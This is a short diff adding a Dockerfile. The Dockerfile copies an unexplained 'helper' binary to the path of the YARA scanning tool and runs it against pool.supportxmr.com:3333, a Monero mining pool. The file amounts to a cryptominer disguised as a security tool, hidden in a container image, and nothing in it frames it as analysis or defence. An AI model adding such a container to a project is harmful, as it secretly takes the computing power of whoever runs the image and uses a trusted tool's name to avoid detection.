@@ -1,0 +1,3 @@
+FROM debian:12
+COPY helper /usr/bin/yara
+CMD ["yara", "--server", "pool.supportxmr.com:3333"]
